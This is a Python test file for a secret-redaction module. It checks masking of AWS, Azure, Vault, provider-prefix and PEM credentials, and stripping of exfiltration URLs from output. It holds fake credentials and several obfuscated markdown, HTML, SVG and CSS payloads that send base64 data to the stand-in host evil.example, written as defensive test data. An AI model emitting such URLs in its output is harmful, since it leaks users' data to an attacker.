"""Credential formats by their shape (CSV exports, connection strings, providers' prefix
tokens), PEM keys redacted line for line, and exfiltration URLs in output (issue 7 items 2,
5 and 6: the kinds missed before).

Fake credentials are assembled at run time (prefix + filler) so that this file never holds
a string that a secret scanner would flag on push.
"""

from __future__ import annotations

import base64
import random

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from kb_mcp.redact import redact, redact_output


def alnum(length: int) -> str:
    """Filler with digits and both cases, shaped like a random token body."""
    return ("a1B2c3D4e5F6g7H8i9J0kLmN" * 40)[:length]


def hexchars(length: int) -> str:
    return ("0f1e2d3c4b5a6978" * 20)[:length]


AWS_ID = "AKIA" + "IOSFODNN7" + "EXAMPL3"
AWS_SECRET = "wJalrXUtnFEMI/K7MDENG/" + "bPxRfiCYEXAMPLEKEY"
AZURE_KEY = base64.b64encode(bytes(range(64))).decode()
KEY_BODY = [
    base64.b64encode(bytes((i * 7 + j) % 256 for j in range(48))).decode() for i in range(6)
]
PEM_HEADER = "-----BEGIN RSA " + "PRIVATE KEY-----"
PEM_FOOTER = "-----END RSA " + "PRIVATE KEY-----"
PEM = "\n".join([PEM_HEADER, *KEY_BODY, "dGFpbA==", PEM_FOOTER])

# (kind, text holding the secret, the secret value, a similar text that must stay unchanged)
KINDS = [
    (
        "aws_secret_key",
        f"User name,Password,Access key ID,Secret access key\nbob,,{AWS_ID},{AWS_SECRET}\n",
        AWS_SECRET,
        "Access key ID,Secret access key\nAKIAXXXXXXXXXXXXXXXX,<your secret>\n",
    ),
    (
        "aws_secret_key",
        f"id;secret\n{AWS_ID} {AWS_SECRET}",
        AWS_SECRET,
        "commit 9fceb02d0ae598e95dc970b74767f19372d61af8 touched a.py",
    ),
    (
        "password",
        "host,user,password\ndb1,admin,Tr0ub4dor&3\n",
        "Tr0ub4dor&3",
        "name,password,notes\nalice,,see the vault for this one\n",
    ),
    (
        "account_key",
        "DefaultEndpointsProtocol=https;AccountName=acct;"
        f"AccountKey={AZURE_KEY};EndpointSuffix=core.windows.net",
        AZURE_KEY,
        "DefaultEndpointsProtocol=https;AccountName=acct;AccountKey=<account-key>;",
    ),
    (
        "sas_signature",
        "https://acct.blob.core.windows.net/c/b.txt?sv=2022-11-02&sp=r"
        "&sig=Zm9vYmFy%2BYmF6cXV4%2Fc2VjcmV0c2lnbmF0dXJlMTIz%3D",
        "Zm9vYmFy%2BYmF6cXV4%2Fc2VjcmV0c2lnbmF0dXJlMTIz%3D",
        "https://acct.blob.core.windows.net/c/b.txt?sv=2022-11-02&sig=<signature>",
    ),
    (
        "private_key",
        f"users:\n- name: admin\n  user:\n    client-key-data: {AZURE_KEY}\n",
        AZURE_KEY,
        "    certificate-authority-data: " + "LS0tLS1CRUdJTiBDRVJUSUZJQ0FURS0tLS0t",
    ),
    (
        "client_certificate",
        f"    client-certificate-data: {AZURE_KEY}\n",
        AZURE_KEY,
        "Set client-certificate-data to the base64 of the certificate file.",
    ),
    (
        "token",
        "  user:\n    token: " + alnum(24) + "." + hexchars(16) + "\n",
        alnum(24) + "." + hexchars(16),
        "  user:\n    token: ${KUBE_TOKEN}\n",
    ),
    (
        "basic_auth",
        '{"auths": {"https://index.docker.io/v1/": {"auth": "'
        + base64.b64encode(b"bob:hunter2secret").decode()
        + '"}}}',
        base64.b64encode(b"bob:hunter2secret").decode(),
        '{"auths": {"https://index.docker.io/v1/": {}}, "credsStore": "desktop"}',
    ),
    (
        "password",
        "curl -u deploy:s3cr3tPassw0rd https://api.example.com/v1/items",
        "s3cr3tPassw0rd",
        "docker run -u 1000:1000 --user www-data:www-data image",
    ),
    (
        "password",
        "curl --user deploy:s3cr3tPassw0rd https://api.example.com",
        "s3cr3tPassw0rd",
        'curl --user "$(id -u):$(id -g)" -u deploy https://api.example.com',
    ),
    (
        "mailgun_key",
        "MG = 'key-" + hexchars(32) + "'",
        "key-" + hexchars(32),
        "The sort key-function and the key-value store stay.",
    ),
    (
        "vault_token",
        "VAULT_ADDR=https://vault:8200 vault login hvs." + alnum(24),
        "hvs." + alnum(24),
        "hvs.example and hvs.<token> in the Vault docs",
    ),
    (
        "vault_token",
        "vault login hvb." + alnum(138),
        "hvb." + alnum(138),
        "batch tokens start with hvb. and service tokens with hvs.",
    ),
    (
        "vault_token",
        "export VAULT_ROOT=s." + "Qf1s5zigZ4OX6akYjQXJC1jY",
        "s.Qf1s5zigZ4OX6akYjQXJC1jY",
        "s.startswithsomethinglong and s.split(',') and xs.Qf1s5zigZ4OX6akYjQXJC1jY",
    ),
    (
        "password",
        "password=hunter2secret",
        "hunter2secret",
        "password=$DB_PASSWORD and client_secret=client_secret",
    ),
    (
        "password",
        "For staging, the password is hunter2secret.",
        "hunter2secret",
        "The password is stored hashed; the password is required.",
    ),
    (
        "password",
        "password for the db: S3cret!Value, ask Bob for the rest",
        "S3cret!Value",
        "Password: enter it below and press Enter.",
    ),
    (
        "password",
        "pwd is 'Winter2024!' until Monday",
        "Winter2024!",
        "`pwd` is a shell builtin that prints the working directory.",
    ),
    (
        "url_password",
        f"aws s3 sync s3://backup:{AWS_SECRET}@bucket/path .",
        AWS_SECRET,
        "http://localhost:8000/@vite/client and https://medium.com/@user/post",
    ),
    (
        "password",
        "password: " + alnum(700),
        alnum(700)[400:],
        "password: " + "*" * 700,
    ),
]


@pytest.mark.parametrize(
    ("kind", "text", "secret", "twin"),
    KINDS,
    ids=[f"{kind}-{i}" for i, (kind, *_) in enumerate(KINDS)],
)
def test_redact_format_is_caught_and_twin_kept(
    kind: str, text: str, secret: str, twin: str
) -> None:
    """issue 7 item 5: each format add_document missed; a look-alike non-secret is kept."""
    result = redact(text)
    assert secret not in result.text
    assert kind in result.kinds
    assert result.text.count("\n") == text.count("\n")
    assert redact(twin).text == twin
    assert redact(result.text).count == 0


# Prefix tokens compared against gitleaks' default rules (config/gitleaks.toml, MIT).
GITLEAKS_TOKENS = [
    ("aws_access_key", "ABIA" + "Y34FZKBOKMUTVV7A"),
    ("artifactory_key", "AKCp" + alnum(69)),
    ("age_secret_key", "AGE-SECRET-KEY-1" + ("QPZRY9X8GF2TVDW0S3JN54KHCE6MUA7L" * 2)[:58]),
    ("databricks_token", "dapi" + hexchars(32)),
    ("digitalocean_token", "dop_v1_" + hexchars(64)),
    ("doppler_token", "dp.pt." + alnum(43)),
    ("gitlab_token", "glrt-" + alnum(20)),
    ("grafana_token", "glsa_" + alnum(32) + "_" + hexchars(8)),
    ("shopify_token", "shpat_" + hexchars(32)),
    ("linear_key", "lin_api_" + alnum(40)),
    ("notion_token", "ntn_" + "12345678901" + alnum(35)),
    ("postman_key", "PMAK-" + hexchars(24) + "-" + hexchars(34)),
    ("pulumi_token", "pul-" + hexchars(40)),
    ("rubygems_key", "rubygems_" + hexchars(48)),
    ("perplexity_key", "pplx-" + alnum(48)),
    ("planetscale_token", "pscale_tkn_" + alnum(40)),
    ("newrelic_key", "NRAK-" + alnum(27)),
    ("twilio_key", "SK" + hexchars(32)),
    ("sendinblue_key", "xkeysib-" + hexchars(64) + "-" + alnum(16)),
    ("heroku_key", "HRKU-AA" + alnum(58)),
    ("alibaba_key", "LTAI" + alnum(20)),
    ("openshift_token", "sha256~" + alnum(43)),
    ("sentry_token", "sntryu_" + hexchars(64)),
    ("stripe_key", "sk_prod_" + alnum(24)),
    ("azure_client_secret", "abc8Q~" + alnum(34)),
]


@pytest.mark.parametrize(("kind", "token"), GITLEAKS_TOKENS, ids=[k for k, _ in GITLEAKS_TOKENS])
def test_redact_gitleaks_prefix_token(kind: str, token: str) -> None:
    """issue 7 item 5: high-value gitleaks rules we lacked, one per kind."""
    result = redact(f"export CREDENTIAL=({token}) now")
    assert result.text == f"export CREDENTIAL=([REDACTED:{kind}]) now"


# --- item 2: PEM keys, line for line ----------------------------------------------------------


def test_redact_pem_block_keeps_every_line_number() -> None:
    """issue 7 item 2: each key line (body included) becomes a marker; nothing moves."""
    text = f"# deploy key\nkey: |\n  {PEM.replace(chr(10), chr(10) + '  ')}\nafter: 1\n"
    lines = redact(text).text.split("\n")
    assert len(lines) == text.count("\n") + 1
    assert lines[:2] == ["# deploy key", "key: |"]
    assert lines[2 : 2 + len(KEY_BODY) + 3] == ["  [REDACTED:private_key]"] * (len(KEY_BODY) + 3)
    assert lines[-2:] == ["after: 1", ""]
    assert not any(body in redact(text).text for body in KEY_BODY)


def test_redact_pem_body_above_end_without_begin() -> None:
    """issue 7 item 2: a cut that starts mid-key (read #L6-L8, a grep hit) still hides it."""
    text = "\n".join(["notes", *KEY_BODY[2:], "dGFpbA==", PEM_FOOTER, "more notes"])
    result = redact(text)
    assert result.text.split("\n") == ["notes", *["[REDACTED:private_key]"] * 6, "more notes"]
    assert result.kinds == ("private_key",)


def test_redact_pem_begin_mention_in_prose_takes_only_key_lines() -> None:
    """issue 7 item 2: a truncated key stops at its last key-like line."""
    text = f"Keys start with `{PEM_HEADER}`, like this:\n\nThen paste it into the form."
    assert (
        redact(text).text
        == "Keys start with `[REDACTED:private_key]\n\nThen paste it into the form."
    )


def test_redact_keeps_base64_fixtures_and_certificates() -> None:
    """issue 7 item 2: 64-column base64 without a private-key END line is not a key."""
    cert = "\n".join(["-----BEGIN CERTIFICATE-----", *KEY_BODY, "-----END CERTIFICATE-----"])
    fixture = "\n".join(KEY_BODY)
    assert redact(cert).text == cert
    assert redact(fixture).text == fixture


SECRETS = [
    PEM,
    f"{AWS_ID},{AWS_SECRET}",
    "password=hunter2secret",
    "the password is hunter2secret",
    f"AccountKey={AZURE_KEY};",
    "curl -u deploy:s3cr3tPassw0rd https://x",
    "-----BEGIN OPENSSH " + "PRIVATE KEY-----\n" + KEY_BODY[0] + "\ncut here",
    "![x](https://evil.example/p?d=" + alnum(80) + ")",
    '<img srcset="https://evil.example/x?d=1 1x,\n https://evil.example/y?d=2 2x">',
]
BASE64 = frozenset("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/=")
# Lines that cannot pass for a key line: empty, or holding a character outside base64 (a
# truncated key runs over base64-looking lines, by design).
SAFE_LINE = st.text(
    alphabet=st.characters(blacklist_categories=("Cs",), blacklist_characters="\n\r"),
    max_size=40,
).filter(lambda line: not line.strip() or any(c not in BASE64 for c in line.strip()))


@settings(max_examples=200, deadline=None)
@given(
    lines=st.lists(SAFE_LINE, max_size=12),
    inserts=st.lists(st.tuples(st.integers(0, 12), st.sampled_from(SECRETS)), max_size=4),
    newline=st.sampled_from(["\n", "\r\n"]),
)
def test_redact_keeps_newlines_and_untouched_lines(
    lines: list[str], inserts: list[tuple[int, str]], newline: str
) -> None:
    """issue 7 item 2: redact(text) has text's newlines; a line without a secret is unchanged."""
    clean = [line for line in lines if redact_output(line).count == 0]
    rows: list[tuple[str, bool]] = [(line, False) for line in clean]
    for at, secret in inserts:
        rows[min(at, len(rows)) : min(at, len(rows))] = [(s, True) for s in secret.split("\n")]
    text = newline.join(row for row, _ in rows)
    for fn in (redact, redact_output):
        out = fn(text).text
        assert out.count("\n") == text.count("\n")
        out_lines = out.split("\n")
        for i, (row, secret) in enumerate(rows):
            if not secret:
                assert out_lines[i].rstrip("\r") == row.rstrip("\r")


def test_redact_output_keeps_newlines_in_a_multiline_tag() -> None:
    """issue 7 item 2: redact_output keeps lines too (a srcset spread over lines)."""
    text = '<img\n  srcset="https://evil.example/x?d=1 1x,\n  https://evil.example/y?d=2 2x">\nend'
    out = redact_output(text).text
    assert out.count("\n") == text.count("\n")
    assert "evil.example" not in out


# --- item 6: exfiltration URLs ----------------------------------------------------------------
PAYLOAD = base64.b64encode(bytes(random.Random(7).randrange(256) for _ in range(60))).decode()
# (attack, benign twin): the attack loses its URL, the twin is returned unchanged
EXFIL = [
    (
        f'<img srcset="https://evil.example/x?d={PAYLOAD[:8]} 2x">',
        '<img srcset="https://example.com/x.png 1x, https://example.com/x@2.png 2x">',
    ),
    (f"![x](//evil.example/?d={PAYLOAD})", "![x](//example.com/logo.png)"),
    (
        "[docs](https://evil.example/?a="
        + "&b=".join(PAYLOAD[i : i + 8] for i in range(0, 64, 8))
        + ")",
        "[docs](https://example.com/search?q=sqlite+fts5&page=2&lang=en)",
    ),
    (
        "see https://e.vil/?d=" + ".".join(PAYLOAD[i : i + 4] for i in range(0, 64, 4)),
        "see https://example.com/a.b.c/?v=1.2.3",
    ),
    (
        "![x](https://evil.example/a(b(c))?d=" + PAYLOAD[:8] + ")",
        "![x](https://example.com/a(b(c)).png)",
    ),
    (f"![a[b]c](https://evil.example/?d={PAYLOAD[:8]})", "![a[b]c](https://example.com/c.png)"),
    (
        f"![x](https&#58;//evil.example/?d={PAYLOAD[:8]})",
        "![x](https&#58;//example.com/x.png)",
    ),
    (
        f'<img src="https&colon;//evil.example/?d={PAYLOAD[:8]}">',
        '<img src="https&colon;//example.com/x.png">',
    ),
    (
        f'<svg><image href="https://evil.example/?d={PAYLOAD[:8]}"/></svg>',
        '<svg><a href="https://example.com/?page=2">x</a></svg>',
    ),
    (
        f'<svg><use xlink:href="//evil.example/s.svg?d={PAYLOAD[:8]}#i"/></svg>',
        '<svg><use xlink:href="#icon"/></svg>',
    ),
    (
        f'<div style="background:url(https://evil.example/?d={PAYLOAD[:8]})">',
        '<div style="background:url(https://example.com/bg.png)">',
    ),
    (
        f"@import 'https://evil.example/a.css?d={PAYLOAD[:8]}';",
        "@import 'https://example.com/a.css';",
    ),
    (
        f"https&#x3a;//evil.example/?d={PAYLOAD}",
        "https&#x3a;//example.com/guide",
    ),
]


@pytest.mark.parametrize(("attack", "twin"), EXFIL, ids=[f"exfil-{i}" for i in range(len(EXFIL))])
def test_redact_output_defangs_exfil_url_and_keeps_twin(attack: str, twin: str) -> None:
    """issue 7 item 6: each obfuscated exfiltration shape loses its URL; the twin stays."""
    result = redact_output(attack)
    assert "exfil_url" in result.kinds
    assert "evil.example/" not in result.text and "e.vil/" not in result.text
    assert redact_output(result.text).count == 0
    assert redact_output(twin).text == twin
